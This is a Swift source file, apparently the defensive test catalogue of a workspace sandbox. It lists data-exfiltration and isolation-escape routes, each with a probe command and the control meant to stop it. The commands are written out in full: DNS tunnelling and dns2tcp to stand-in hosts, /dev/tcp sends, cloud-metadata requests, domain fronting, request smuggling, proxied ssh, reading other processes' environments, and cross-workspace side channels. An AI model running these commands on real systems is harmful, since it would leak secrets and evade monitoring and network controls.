import CordonModel

extension LocalRoutes {
  static let names: [LocalRoute] = [
    LocalRoute(
      "dns-label", .tunnel, "secret in the labels of names nobody listed",
      [asked("a name", "dig secret.evil.test")]),
    LocalRoute(
      "dns-record-type", .tunnel, "secret in questions for every kind of record",
      [asked("another kind of record", "dig TXT secret.evil.test")]),
    LocalRoute(
      "dns-child-of-allowed", .tunnel, "secret as a child of a name that is listed",
      [asked("a child of a listed name", "dig secret.sts.amazonaws.com")]),
    LocalRoute(
      "dns-spare-bits", .tunnel, "secret in parts of a listed question that no answer needs",
      [
        LocalWay(
          "options, classes, letter case", "dig +ednsopt=65001:736563726574 s3.amazonaws.com",
          .control(.dnsAllowlist))
      ]),
    LocalRoute(
      "dns-over-tcp", .tunnel, "the same questions over TCP, many in one connection",
      [asked("a name", "dig +tcp secret.evil.test")]),
    LocalRoute(
      "dns-other-resolver", .tunnel, "another name server, asked directly",
      [direct("a question to its address", "dig @192.0.2.53 secret.evil.test")]),
    LocalRoute(
      "dns-over-tls-https", .tunnel, "DNS inside TLS or HTTPS",
      [
        direct(
          "a resolver's address",
          "curl --noproxy '*' --doh-url https://192.0.2.2/dns-query https://evil.test/"),
        asked("a resolver's name", "getent hosts secret.evil.test"),
        proxied("through the proxy", "'https://evil.test/dns-query?dns=secret'"),
      ]),
    LocalRoute(
      "dns-tunnel-tools", .tunnel, "ready-made tunnels: dns2tcp, iodine",
      [
        asked("through the workspace's resolver", "dns2tcpc -c -z secret.evil.test 127.0.0.1"),
        direct("through another name server", "dns2tcpc -c -z secret.evil.test 192.0.2.53"),
      ]),
  ]

  static let network: [LocalRoute] = [
    LocalRoute(
      "direct-tcp", .tunnel, "TCP to outside addresses, IPv4 and IPv6",
      [direct("a socket", "bash -c 'echo secret > /dev/tcp/192.0.2.2/80'")]),
    LocalRoute(
      "direct-udp", .tunnel, "UDP: outside addresses, broadcast, multicast",
      [direct("a datagram", "bash -c 'echo secret > /dev/udp/192.0.2.2/443'")]),
    LocalRoute(
      "host-loopback", .tunnel, "a service on the host's own loopback",
      [
        direct("a socket", "bash -c 'echo secret > /dev/tcp/127.0.0.1/19555'"),
        proxied("through the proxy", "http://localhost:19555/secret"),
      ]),
    LocalRoute(
      "link-local-metadata", .tunnel, "cloud metadata and link-local addresses",
      [
        direct("a socket", "curl --noproxy '*' http://169.254.169.254/latest/meta-data/secret"),
        proxied("through the proxy", "http://metadata.google.internal/secret"),
      ]),
    LocalRoute(
      "icmp", .tunnel, "secret in the payload of a ping",
      [
        LocalWay(
          "ping", "ping -c1 -p 736563726574 192.0.2.2", .control(.seccomp), .control(.networkNamespace),
          .fact(.noCapabilities))
      ]),
    LocalRoute(
      "raw-sockets", .tunnel, "frames, spoofed packets and unusual protocols",
      [
        LocalWay(
          "packet and raw sockets", "python3 -c 'import socket; socket.socket(17, 3, 0)'",
          .fact(.noCapabilities), .control(.seccomp)),
        LocalWay(
          "multipath TCP",
          "python3 -c 'import socket; socket.socket(2, 1, 262).connect((\"192.0.2.2\", 80))'",
          .control(.networkNamespace), .control(.seccomp)),
        LocalWay(
          "sockets between virtual machines", "python3 -c 'import socket; socket.socket(40, 1)'",
          .control(.seccomp)),
      ]),
    LocalRoute(
      "new-interface", .tunnel, "an interface, an address or a route of one's own",
      [LocalWay("ip", "ip link add drill0 type bridge", .fact(.noCapabilities))]),
  ]

  static let proxy: [LocalRoute] = [
    LocalRoute(
      "connect-foreign", .tunnel, "hosts that nobody listed, through the proxy",
      [proxied("CONNECT and plain requests", "-d secret https://evil.test/")]),
    LocalRoute(
      "connect-address", .tunnel, "addresses instead of names, in every spelling",
      [
        LocalWay(
          "CONNECT and plain requests", "curl -x http://127.0.0.1:3128 http://3221225986:19555/secret",
          .fact(.namesOnly), .policy(.unlistedHost), .control(.proxyAllowlist))
      ]),
    LocalRoute(
      "connect-other-port", .tunnel, "a listed host on a port that is not listed",
      [
        LocalWay(
          "another port", "curl -x http://127.0.0.1:3128 -d secret http://allowed.test:19555/",
          .policy(.unlistedPort), .control(.proxyAllowlist))
      ]),
    LocalRoute(
      "connect-parser-tricks", .tunnel, "request lines that two parsers read differently",
      [
        LocalWay(
          "two hosts in one line", "printf 'CONNECT allowed.test:443@evil.test:443 HTTP/1.1\\r\\n\\r\\n'",
          .fact(.namesOnly), .fact(.strictFraming))
      ]),
    LocalRoute(
      "sni-mismatch", .tunnel, "another server name in TLS than was asked for",
      [
        LocalWay(
          "inside an allowed tunnel",
          "curl -x http://127.0.0.1:3128 --connect-to evil.test:443:allowed.test:443 https://evil.test/secret",
          .control(.sniCheck))
      ]),
    LocalRoute(
      "host-mismatch", .tunnel, "domain fronting: a foreign host inside an allowed connection",
      [
        LocalWay(
          "inside TLS", "curl -x http://127.0.0.1:3128 -H 'Host: evil.test' -d secret https://allowed.test/",
          .control(.hostCheck))
      ]),
    LocalRoute(
      "direct-tls", .tunnel, "TLS to where listed hosts are found without the proxy",
      [
        LocalWay(
          "a server name that nobody listed",
          "curl --noproxy '*' --connect-to ::127.0.0.5:443 -d secret https://evil.test/",
          .policy(.unlistedHost), .control(.proxyAllowlist)),
        LocalWay(
          "a foreign host inside a listed name's TLS",
          "curl --noproxy '*' -H 'Host: evil.test' -d secret https://allowed.test/", .control(.hostCheck)),
      ]),
    LocalRoute(
      "raw-after-connect", .tunnel, "something that is not TLS in an allowed tunnel",
      [
        LocalWay(
          "text after CONNECT",
          "ssh -o ProxyCommand='nc -X connect -x 127.0.0.1:3128 allowed.test 443' allowed.test",
          .fact(.tlsFirst))
      ]),
    LocalRoute(
      "tls-hello-spare-bits", .tunnel, "secret in parts of a TLS hello that nobody needs",
      [
        LocalWay(
          "extensions, session, protocol name",
          "openssl s_client -proxy 127.0.0.1:3128 -connect allowed.test:443 -alpn secret",
          .fact(.ownTLS))
      ]),
    LocalRoute(
      "upgrade", .tunnel, "WebSocket, h2c and UDP inside an HTTP connection",
      [
        LocalWay(
          "an upgrade",
          "curl -x http://127.0.0.1:3128 -H 'Connection: Upgrade' -H 'Upgrade: websocket' http://allowed.test/",
          .fact(.noUpgrade))
      ]),
    LocalRoute(
      "socks", .tunnel, "SOCKS spoken to the proxy's port",
      [
        LocalWay(
          "SOCKS 4a and 5", "curl --socks5-hostname 127.0.0.1:3128 http://secret.evil.test/", .fact(.httpOnly)
        )
      ]),
    LocalRoute(
      "request-smuggling", .tunnel, "a second request hidden in the framing of a first",
      [
        LocalWay(
          "two lengths",
          "printf 'POST http://allowed.test/ HTTP/1.1\\r\\nContent-Length: 4\\r\\nTransfer-Encoding: chunked\\r\\n\\r\\n'",
          .fact(.strictFraming))
      ]),
    LocalRoute(
      "git-and-ssh", .tunnel, "git over https, git and ssh; ssh through the proxy",
      [
        proxied("https through the proxy", "https://evil.test/secret.git/info/refs"),
        asked("a remote's name", "git ls-remote ssh://git@secret.evil.test/data.git"),
        direct("a remote's address", "git ls-remote git://192.0.2.2/secret.git"),
        LocalWay(
          "ssh in a tunnel", "ssh -o ProxyCommand='nc -X connect -x 127.0.0.1:3128 evil.test 22' evil.test",
          .fact(.tlsFirst), .policy(.unlistedHost), .control(.proxyAllowlist)),
      ]),
  ]

  static let neighbours: [LocalRoute] = [
    LocalRoute(
      "neighbour-sockets", .tunnel, "another workspace's sockets",
      [direct("TCP, UDP and abstract sockets", "bash -c 'echo secret > /dev/tcp/127.0.0.1/47011'")]),
    LocalRoute(
      "neighbour-memory", .tunnel, "shared memory, queues and folders",
      [
        LocalWay("System V and POSIX", "ipcmk --shmem 64 --mode 0666", .fact(.ownMemory)),
        LocalWay("folders", "sh -c 'echo secret > /dev/shm/for-the-neighbour'", .fact(.ownFolders)),
      ]),
    LocalRoute(
      "neighbour-processes", .tunnel, "another workspace's processes, memory and home",
      [
        LocalWay("processes and their memory", "cat /proc/[0-9]*/environ", .control(.processNamespace)),
        LocalWay("homes", "find /home -name '*.csv'", .fact(.ownFolders)),
      ]),
    LocalRoute(
      "neighbour-file-locks", .tunnel, "locks on files that both workspaces see",
      [
        LocalWay("files of /usr", "flock --exclusive /usr/bin/env sleep 2", .control(.sharedFilesOverlay)),
        LocalWay("files of the host", "flock --exclusive /usr/bin/env sleep 2", .control(.rootFilesystem)),
      ]),
    LocalRoute(
      "neighbour-device-locks", .tunnel, "locks on device nodes that both workspaces see",
      [LocalWay("device nodes", "flock --exclusive /dev/null sleep 2", .control(.privateDevices))]),
    LocalRoute(
      "neighbour-terminals", .tunnel, "the kernel's last terminal",
      [
        LocalWay(
          "taking all and giving one back",
          "python3 -c 'import os; [os.open(\"/dev/ptmx\", 2) for _ in range(4096)]'",
          .control(.terminalLimit))
      ]),
    LocalRoute(
      "neighbour-kernel-counters", .tunnel, "numbers that the kernel shows to everybody",
      [
        LocalWay(
          "terminals, threads and inodes", "cat /proc/sys/kernel/pty/nr /proc/loadavg", .control(.kernelFiles)
        )
      ]),
    LocalRoute(
      "neighbour-user-limits", .tunnel, "limits that the kernel counts for a user id",
      [
        LocalWay(
          "pipe memory as a signal",
          "python3 -c 'import fcntl, os; fcntl.fcntl(os.pipe()[0], 1031, 1 << 20)'",
          .control(.uidSeparation))
      ]),
    LocalRoute(
      "neighbour-disk-space", .tunnel, "free space on a disk that both workspaces see",
      [
        LocalWay("a file's size as a signal", "fallocate --length 16M ~/signal", .mechanism(.diskQuota))
      ]),
  ]

  /// A name that is asked of the workspace's own resolver.
  private static func asked(_ name: String, _ command: String) -> LocalWay {
    LocalWay(name, command, .policy(.unlistedName), .control(.dnsAllowlist))
  }

  /// A socket of the workspace's own.
  private static func direct(_ name: String, _ command: String) -> LocalWay {
    LocalWay(name, command, .control(.networkNamespace))
  }

  /// A host that nobody listed, through the proxy.
  private static func proxied(_ name: String, _ arguments: String) -> LocalWay {
    LocalWay(
      name, "curl -x http://127.0.0.1:3128 \(arguments)", .policy(.unlistedHost), .control(.proxyAllowlist))
  }
}
